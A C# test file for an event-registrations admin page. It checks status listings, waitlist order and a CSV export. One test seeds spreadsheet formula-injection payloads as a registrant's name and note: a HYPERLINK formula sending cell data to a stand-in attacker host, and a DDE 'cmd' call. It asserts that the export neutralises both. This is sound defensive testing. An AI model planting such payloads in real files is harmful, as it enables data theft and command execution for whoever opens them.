using System.Globalization;
using System.Net;
using CsvHelper;
using Masthead.Accounts;
using Masthead.Events;
using Masthead.Tests.Support;

namespace Masthead.Tests.Events.Admin;

/// <summary>The registrations page lists each status in its place; the CSV has every registrant with the names from
/// the users table, and a name or note a spreadsheet would run as a formula stays text.</summary>
public sealed class RegistrationsExportTests
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Theory, ClassData(typeof(Databases))]
    public async Task TheCsvHasEveryRegistrantAndFormulasStayText(Db db)
    {
        await using var app = await EventAdminSupport.StartAsync(db);
        var ev = await app.SeedEventAsync(e => e.Admission = EventAdmission.ByInvitation);
        var (_, confirmed) = await app.RegistrantAsync(ev.Id, "lina@example.test", RegistrationStatus.Confirmed, "Lina Aziz", ticket: "T-LINA");
        await app.WithDbAsync(async d =>
        {
            var r = await d.Set<EventRegistration>().FindAsync([confirmed.Id], Ct);
            r!.CheckedInAt = EventAdminSupport.Utc(12, 10, 14, 4);
            r.CheckedInBy = "door@example.test";
            await d.SaveChangesAsync(Ct);
        });
        await app.RegistrantAsync(ev.Id, "formula@example.test", RegistrationStatus.Requested, "=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")",
            note: "+1+cmd|' /C calc'!A0");
        await app.RegistrantAsync(ev.Id, "wait@example.test", RegistrationStatus.Waitlisted);
        await app.RegistrantAsync(ev.Id, "gone@example.test", RegistrationStatus.Canceled, "Sami Nasser");
        var editor = await app.SignedInClientAsync(Roles.Editor);

        var response = await editor.GetAsync($"/admin/events/{ev.Id}/registrations?handler=Csv", Ct);
        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType!.MediaType);
        Assert.Contains("registrations-gulf-energy-breakfast-", response.Content.Headers.ContentDisposition!.ToString());
        var csv = await response.Content.ReadAsStringAsync(Ct);

        using var reader = new CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        reader.Read();
        reader.ReadHeader();
        Assert.Equal(["name", "email", "status", "registered_at", "confirmed_at", "checked_in_at", "note"], reader.HeaderRecord);
        var rows = new Dictionary<string, string[]>();
        while (reader.Read()) rows[reader.GetField("email")!] = reader.Parser.Record!;
        Assert.Equal(4, rows.Count);
        Assert.Equal(["Lina Aziz", "lina@example.test", "confirmed", "2026-11-20T09:00:00Z", "2026-11-20T09:00:00Z", "2026-12-10T14:04:00Z", ""],
            rows["lina@example.test"]);
        Assert.Equal("'=HYPERLINK(\"http://evil.example/?\"&A2,\"Click\")", rows["formula@example.test"][0]);
        Assert.Equal("requested", rows["formula@example.test"][2]);
        Assert.Equal("'+1+cmd|' /C calc'!A0", rows["formula@example.test"][6]);
        // A member without a display name is listed by email.
        Assert.Equal(("wait@example.test", "waitlisted"), (rows["wait@example.test"][0], rows["wait@example.test"][2]));
        Assert.Equal("canceled", rows["gone@example.test"][2]);
    }

    [Theory, ClassData(typeof(Databases))]
    public async Task ThePageShowsConfirmedWithTicketsTheWaitlistInOrderAndRequestsWithNotes(Db db)
    {
        await using var app = await EventAdminSupport.StartAsync(db);
        var ev = await app.SeedEventAsync(e => e.Admission = EventAdmission.ByInvitation);
        await app.RegistrantAsync(ev.Id, "lina@example.test", RegistrationStatus.Confirmed, "Lina Aziz", ticket: "T-LINA");
        await app.RegistrantAsync(ev.Id, "second@example.test", RegistrationStatus.Waitlisted, "Second Waiting", queuedAt: EventAdminSupport.Utc(11, 19, 10));
        await app.RegistrantAsync(ev.Id, "first@example.test", RegistrationStatus.Waitlisted, "First Waiting", queuedAt: EventAdminSupport.Utc(11, 18, 10));
        await app.RegistrantAsync(ev.Id, "vip@example.test", RegistrationStatus.Requested, "Vip Guest", note: "I chair the energy council.");
        var editor = await app.SignedInClientAsync(Roles.Editor);

        var html = await (await editor.GetAsync($"/admin/events/{ev.Id}/registrations", Ct)).TextAsync();
        Assert.Contains("Confirmed (1)", html);
        Assert.Contains("/admin/events/check-in/T-LINA", html);
        Assert.True(html.IndexOf("First Waiting", StringComparison.Ordinal) < html.IndexOf("Second Waiting", StringComparison.Ordinal),
            "the waitlist is oldest first");
        Assert.Contains("Requests (1)", html);
        Assert.Contains("I chair the energy council.", html);
        Assert.Equal(HttpStatusCode.NotFound, (await editor.GetAsync("/admin/events/987654/registrations?handler=Csv", Ct)).StatusCode);
    }
}
